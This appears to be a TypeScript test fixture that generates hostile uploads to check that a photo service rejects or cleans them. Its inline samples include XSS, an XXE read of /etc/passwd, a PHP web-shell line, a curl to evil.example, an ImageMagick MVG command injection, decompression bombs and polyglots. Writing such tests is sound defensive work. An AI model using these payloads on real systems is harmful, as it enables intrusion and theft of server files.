// Files that no camera made, made on the spot: what is no photo, what only looks like one, and what is meant to do harm.
import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { noisyPicture, plainPicture } from '../platform/photo-store/testing.ts';

export interface HostileFile {
  what: string;
  bytes: Buffer;
  /** The only right answers. */
  statuses: number[];
}

const SCRIPT = '<script>alert("canary")</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('canary')">${SCRIPT}</svg>`;
const latin1 = (text: string) => Buffer.from(text, 'latin1');

/** Every one is refused: what a file is, its first bytes say, whatever follows. */
const noPhotos: Record<string, string | Buffer> = {
  nothing: '',
  'one byte': '\xff',
  text: 'I am a hen.',
  'a page': `<!doctype html>${SCRIPT}`,
  'a page after blanks': `\n\n  <html>${SCRIPT}`,
  'a drawing': svg,
  'a drawing with a prologue': `<?xml version="1.0"?><!DOCTYPE svg>${svg}`,
  'a drawing after a mark': `\xef\xbb\xbf${svg}`,
  'a drawing that names a file': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg><text>&e;</text></svg>',
  'a drawing of entities': `<!DOCTYPE x [<!ENTITY a "${'ha'.repeat(99)}">]><svg>${'&a;'.repeat(999)}</svg>`,
  'a compressed drawing': gzipSync(svg),
  script: 'export const hen = "canary";',
  PHP: '<?php system($_GET["canary"]);',
  'a shell script': '#!/bin/sh\ncurl evil.example\n',
  'a program': '\x7fELF\x02\x01\x01',
  'a Windows program': 'MZ\x90\0\x03',
  'an archive': 'PK\x03\x04\x14\0',
  'a PDF': '%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>',
  'a PostScript': '%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file',
  'a MIFF': 'id=ImageMagick\nlabel=@/etc/passwd\n',
  'an MVG': 'push graphic-context\nfill \'url(https://evil.example/"|ls")\'\n',
  'a BMP': 'BM\x46\0\0\0\0\0\0\0\x36\0\0\0',
  'an icon': '\0\0\x01\0\x01\0\x10\x10',
  'a HEIC': '\0\0\0\x18ftypheic\0\0\0\0mif1heic',
  'an AVIF': '\0\0\0\x18ftypavif\0\0\0\0avifmif1',
  'a film': '\0\0\0\x18ftypmp42\0\0\0\0',
  'a JPEG 2000': '\0\0\0\x0cjP  \r\n\x87\n',
  'a JPEG XL': '\xff\x0a\xfa\x1f',
  'a FITS': 'SIMPLE  =                    T',
  'a sound': 'RIFF\x24\0\0\0WAVEfmt ',
  'a GIF that is a script': 'GIF89a=1;alert("canary")//',
};

/** These begin like a photo, and are none. */
const headsAlone: Record<string, string> = {
  'a JPEG of three bytes': '\xff\xd8\xff',
  'a JPEG that is a page': `\xff\xd8\xff\xe0${SCRIPT}`,
  'a JPEG that is an archive': `\xff\xd8\xff\xe0\0\x10JFIF\0PK\x03\x04`,
  'a PNG of eight bytes': '\x89PNG\r\n\x1a\n',
  'a PNG that is a page': `\x89PNG\r\n\x1a\n${SCRIPT}`,
  'a WebP of twelve bytes': 'RIFF\x04\0\0\0WEBP',
  'a WebP that is a page': `RIFF\xff\xff\xff\xffWEBP${SCRIPT}`,
};

const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([latin1(type), data]);
  const [size, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  size.writeUInt32BE(data.length);
  check.writeUInt32BE(crc32(body));
  return Buffer.concat([size, body, check]);
};

/** Makes a one-bit grayscale PNG. */
function png(width: number, height: number, data: Buffer, ...before: Buffer[]): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  const parts = [chunk('IHDR', head), ...before, chunk('IDAT', deflateSync(data)), chunk('IEND', Buffer.of())];
  return Buffer.concat([latin1('\x89PNG\r\n\x1a\n'), ...parts]);
}

/** A segment of a JPEG, right after its beginning. */
function withSegment(jpeg: Buffer, marker: number, ...segments: Buffer[]): Buffer {
  const parts = segments.map((data) => {
    const head = Buffer.of(0xff, marker, 0, 0);
    head.writeUInt16BE(data.length + 2, 2);
    return Buffer.concat([head, data]);
  });
  return Buffer.concat([jpeg.subarray(0, 2), ...parts, jpeg.subarray(2)]);
}

const bomb = () => deflateSync(Buffer.alloc(40_000_000), { level: 9 });

/** Too many pixels, and too much that unpacks to far more than it is. */
function bombs(jpeg: Buffer): Record<string, [Buffer, number[]]> {
  const profile = (data: Buffer) => Buffer.concat([latin1('ICC_PROFILE\0\x01\x01'), data]);
  const rows = Buffer.alloc(64 * 9);
  return {
    'a PNG of 256 megapixels': [png(16_000, 16_000, Buffer.alloc(16_000 * 2001)), [422]],
    'a PNG that says it has 1600 megapixels': [png(40_000, 40_000, Buffer.alloc(100)), [422]],
    'a PNG of the largest size there is': [png(2 ** 31 - 1, 2 ** 31 - 1, Buffer.alloc(100)), [415, 422]],
    'a PNG without height': [png(64, 0, rows), [415]],
    'a PNG of one line 40 megapixels long': [png(40_000_000, 1, Buffer.alloc(5_000_001)), [422]],
    'a text in a PNG that unpacks to 40 MB': [
      png(64, 64, rows, chunk('zTXt', Buffer.concat([latin1('Comment\0\0'), bomb()]))),
      [201, 415],
    ],
    'a profile in a PNG that unpacks to 40 MB': [
      png(64, 64, rows, chunk('iCCP', Buffer.concat([latin1('x\0\0'), bomb()]))),
      [201, 415],
    ],
    'a profile in a JPEG that is none': [withSegment(jpeg, 0xe2, profile(Buffer.alloc(60_000, 7))), [201, 415]],
    'nine megabytes of metadata': [
      withSegment(jpeg, 0xe1, ...Array(140).fill(Buffer.concat([latin1('Exif\0\0'), Buffer.alloc(64_000, 'canary')]))),
      [201, 415],
    ],
    'more than ten megabytes': [Buffer.concat([jpeg, Buffer.alloc(10_000_000)]), [413]],
  };
}

/** Photos with something else in them, which must be gone from what is kept. */
function polyglots(jpeg: Buffer, small: Buffer, webp: Buffer): Record<string, Buffer> {
  const page = latin1(`<html>${SCRIPT}canary`);
  return {
    'a JPEG with a page behind it': Buffer.concat([jpeg, page]),
    'a JPEG with a page as its comment': withSegment(jpeg, 0xfe, page),
    'a JPEG with PHP as its camera': withSegment(jpeg, 0xe1, latin1('Exif\0\0<?php canary')),
    'a JPEG with an archive behind it': Buffer.concat([jpeg, latin1('PK\x03\x04canary')]),
    'a PNG with a page behind it': Buffer.concat([small, page]),
    'a PNG with a page as its text': Buffer.concat([small.subarray(0, 33), chunk('tEXt', page), small.subarray(33)]),
    'a WebP with a page behind it': Buffer.concat([webp, page]),
  };
}

/** One byte after the other changed, in a way that is the same every time. */
const damaged = (name: string, photo: Buffer): HostileFile[] =>
  [0.1, 0.3, 0.5, 0.7, 0.9].flatMap((share) => {
    const at = Math.floor(photo.length * share);
    const changed = Buffer.from(photo);
    for (let byte = at; byte < Math.min(at + 8, photo.length); byte++) changed[byte] = (changed[byte] ?? 0) ^ 0xa5;
    return [
      { what: `a ${name} cut short at ${share}`, bytes: photo.subarray(0, at), statuses: [415] },
      { what: `a ${name} changed at ${share}`, bytes: changed, statuses: [201, 415, 422] },
    ];
  });

export async function hostileFiles(): Promise<HostileFile[]> {
  const photo = noisyPicture(120, 80);
  const [jpeg, small, webp] = [
    await photo.jpeg().toBuffer(),
    await photo.png().toBuffer(),
    await photo.webp().toBuffer(),
  ];
  const frames = await Promise.all(
    Array.from({ length: 200 }, (_, nth) => plainPicture(2, 2, { r: nth, g: 0, b: 0 }).png().toBuffer()),
  );
  const all = (files: Record<string, string | Buffer>, statuses: number[]) =>
    Object.entries(files).map(([what, text]) => ({
      what,
      bytes: Buffer.isBuffer(text) ? text : latin1(text),
      statuses,
    }));
  return [
    ...all(noPhotos, [415]),
    ...all(headsAlone, [415]),
    { what: 'a GIF', bytes: await photo.gif().toBuffer(), statuses: [415] },
    { what: 'a TIFF', bytes: await photo.tiff().toBuffer(), statuses: [415] },
    ...Object.entries(bombs(jpeg)).map(([what, [bytes, statuses]]) => ({ what, bytes, statuses })),
    ...all(polyglots(jpeg, small, webp), [201]),
    {
      what: 'a film of 200 frames',
      bytes: await sharp(frames, { join: { animated: true } })
        .webp()
        .toBuffer(),
      statuses: [201],
    },
    ...damaged('JPEG', jpeg),
    ...damaged('PNG', small),
    ...damaged('WebP', webp),
  ];
}
